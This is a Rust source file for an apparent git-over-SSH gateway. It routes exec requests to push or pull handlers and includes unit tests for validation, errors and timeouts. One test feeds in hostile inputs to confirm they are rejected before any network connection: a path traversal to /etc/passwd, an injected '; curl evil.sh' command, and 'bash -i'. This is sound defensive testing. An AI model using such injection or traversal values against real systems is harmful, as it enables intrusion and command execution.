//! Exec command routing.

use tokio::sync::mpsc;
use tracing::{info, instrument, warn};

use super::{ClientInput, ClientSink, GatewayError, Relay, SessionContext};
use crate::git::{parse_exec, GitCommand};
use crate::metrics::CommandKind;

impl Relay {
    /// Run one exec request to completion and finish the client's channel
    /// with its exit status.
    ///
    /// The exec string is validated before anything touches the network.
    /// Failures end this command only; the session stays usable.
    #[instrument(skip_all, fields(user = %session.identity.username))]
    pub async fn run_command(
        &self,
        raw: &str,
        session: &SessionContext,
        input: &mut mpsc::Receiver<ClientInput>,
        sink: &mut dyn ClientSink,
    ) -> u32 {
        let (kind, result) = match parse_exec(raw) {
            Err(e) => {
                warn!(error = %e, "rejected exec request");
                (CommandKind::Rejected, Err(GatewayError::from(e)))
            }
            Ok(exec) => {
                info!(
                    phase = "Dispatching",
                    command = %exec.command,
                    repository = %exec.target.repository(),
                    "dispatching command"
                );
                let result = match exec.command {
                    GitCommand::ReceivePack => self.run_push(&exec, session, input, sink).await,
                    GitCommand::UploadPack => self.run_pull(&exec, session, input, sink).await,
                };
                (CommandKind::from(exec.command), result)
            }
        };

        let status = match result {
            Ok(status) => {
                info!(status, "command finished");
                status
            }
            Err(e) => {
                warn!(error = %e, "command failed");
                if sink.stderr(e.client_message().as_bytes()).await.is_err() {
                    warn!("client went away before the error could be reported");
                }
                e.exit_status()
            }
        };
        self.metrics.record_command(kind, status == 0);
        sink.finish(status).await;
        status
    }
}

#[cfg(test)]
mod tests {
    use std::time::Duration;

    use super::*;
    use crate::relay::testing::{
        client_input, relay, session, FakeConnector, FakeGate, RecordingSink,
    };
    use crate::relay::RelayLimits;

    async fn run(raw: &str, connector: std::sync::Arc<FakeConnector>) -> (u32, RecordingSink) {
        let gate = FakeGate::allowing();
        let relay = relay(connector, gate, RelayLimits::default());
        let mut input = client_input(&[]);
        let mut sink = RecordingSink::default();
        let status = relay
            .run_command(raw, &session(), &mut input, &mut sink)
            .await;
        (status, sink)
    }

    #[tokio::test]
    async fn test_unsafe_paths_rejected_before_dial() {
        for raw in [
            "git-upload-pack 'github.com/acme/../../etc/passwd.git'",
            "git-receive-pack 'github.com//acme/widgets.git'",
            "git-receive-pack 'github.com/acme/widgets.git'; curl evil.sh",
            "git-upload-pack 'intranet/acme/widgets.git'",
        ] {
            let connector = FakeConnector::new(vec![]);
            let (status, sink) = run(raw, connector.clone()).await;
            assert_eq!(status, 1, "{raw}");
            assert_eq!(connector.dials(), 0, "{raw}");
            assert!(
                sink.stderr_text().starts_with("invalid repository path"),
                "{raw}: {}",
                sink.stderr_text()
            );
            assert_eq!(sink.exit_status(), Some(1));
        }
    }

    #[tokio::test]
    async fn test_unsupported_command() {
        let connector = FakeConnector::new(vec![]);
        let (status, sink) = run("bash -i", connector.clone()).await;
        assert_eq!(status, 1);
        assert_eq!(sink.stderr_text(), "unsupported command: bash\n");
        assert_eq!(connector.dials(), 0);
        assert_eq!(sink.0.lock().unwrap().finish_calls, 1);
    }

    #[tokio::test]
    async fn test_upstream_refusal_is_reported() {
        let connector = FakeConnector::refusing(GatewayError::Upstream(
            "host key mismatch for github.com".into(),
        ));
        let (status, sink) = run("git-receive-pack 'github.com/a/b.git'", connector.clone()).await;
        assert_eq!(status, 1);
        assert_eq!(
            sink.stderr_text(),
            "upstream error: host key mismatch for github.com\n"
        );
        assert_eq!(connector.dials(), 1);
    }

    #[tokio::test(start_paused = true)]
    async fn test_upstream_connect_timeout() {
        let connector = FakeConnector::stalling();
        let started = tokio::time::Instant::now();
        let (status, sink) = run("git-receive-pack 'github.com/a/b.git'", connector).await;
        assert_eq!(status, 1);
        assert!(started.elapsed() >= Duration::from_secs(30));
        assert_eq!(
            sink.stderr_text(),
            "timed out connecting to github.com after 30s\n"
        );
    }

    #[tokio::test]
    async fn test_git_protocol_is_forwarded() {
        let connector = FakeConnector::refusing(GatewayError::Upstream("stop here".into()));
        let relay = relay(connector.clone(), FakeGate::allowing(), RelayLimits::default());
        let mut session = session();
        session.git_protocol = Some("version=2".into());
        let mut input = client_input(&[]);
        let mut sink = RecordingSink::default();
        relay
            .run_command(
                "git-upload-pack 'github.com/a/b.git'",
                &session,
                &mut input,
                &mut sink,
            )
            .await;
        assert_eq!(
            connector.log.git_protocol.lock().unwrap().as_deref(),
            Some("version=2")
        );
    }
}
